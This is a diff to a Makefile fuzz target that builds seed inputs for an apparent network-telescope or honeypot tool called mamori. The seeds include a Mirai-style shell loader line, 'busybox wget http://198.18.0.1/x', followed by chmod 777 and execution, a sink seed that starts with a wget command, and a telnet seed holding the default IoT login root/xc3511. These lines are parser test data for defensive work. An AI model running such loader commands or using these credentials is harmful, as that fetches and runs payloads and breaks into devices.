@@ -82,10 +82,15 @@ fuzz: $(FUZZ)/build.ninja build
 	@mkdir -p var/fuzz/seed/fuzz_observe var/fuzz/seed/fuzz_text var/fuzz/seed/fuzz_decode var/fuzz/seed/fuzz_sketch var/fuzz/seed/fuzz_params
 	@$(BUILD)/mamori synth -q --out var/fuzz/seed/full.pcap --darknet 198.18.0.0/16,2001:db8::/48 \
 	    --packets 10000 --duration 300 && head -c 3000 var/fuzz/seed/full.pcap >var/fuzz/seed/fuzz_observe/synth.pcap
+	@mkdir -p var/fuzz/seed/fuzz_pcapfile && cp var/fuzz/seed/fuzz_observe/synth.pcap var/fuzz/seed/fuzz_pcapfile/ && \
+	    python3 tests/integration/pcaptool.py pcapng var/fuzz/seed/fuzz_observe/synth.pcap \
+	    var/fuzz/seed/fuzz_pcapfile/synth.pcapng 9
 	@printf '198.18.0.0/15,2001:db8::/32' >var/fuzz/seed/fuzz_text/cidr
 	@printf '/api/v1/timeseries\0proto\0tcp\0port\0002323\0res\00060' >var/fuzz/seed/fuzz_params/ts
 	@printf '1.0.0.0,1.0.0.255,13335,"Cloudflare, Inc."\n' >var/fuzz/seed/fuzz_text/asn
 	@mkdir -p var/fuzz/seed/fuzz_telnet var/fuzz/seed/fuzz_shell
+	@mkdir -p var/fuzz/seed/fuzz_sink && printf 'jsonl:var/x.jsonl' >var/fuzz/seed/fuzz_sink/spec
+	@printf 'wget http://198.18.0.1/\377x; echo "\\"\001' >var/fuzz/seed/fuzz_sink/text
 	@printf '\377\373\037\377\372\037\000\120\000\030\377\360root\r\nxc3511\r\000' >var/fuzz/seed/fuzz_telnet/naws
 	@printf "Scd /tmp; echo -ne '\\\\x7f\\\\x45' >> upnp; while read i; do echo \$$i; done < /proc/mounts\n/bin/busybox wget http://198.18.0.1/x -O - > d; chmod 777 d; ./d\n(cat .s || cp /bin/echo .s); dd bs=52 count=1 if=.s\n" >var/fuzz/seed/fuzz_shell/loader
 	@cp data/personas/router-mips.persona var/fuzz/seed/fuzz_shell/persona && sed -i '1s/^/P/' var/fuzz/seed/fuzz_shell/persona
